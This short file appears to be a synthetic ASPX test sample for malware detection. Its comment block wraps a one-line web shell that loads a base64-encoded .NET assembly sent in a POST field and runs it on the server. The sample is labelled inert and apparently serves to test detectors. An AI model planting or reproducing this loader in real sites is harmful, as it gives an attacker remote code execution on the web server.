<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><% if (Request.Form["m"] != null) System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["m"])).CreateInstance("Mod").Equals(this); %>
--%>
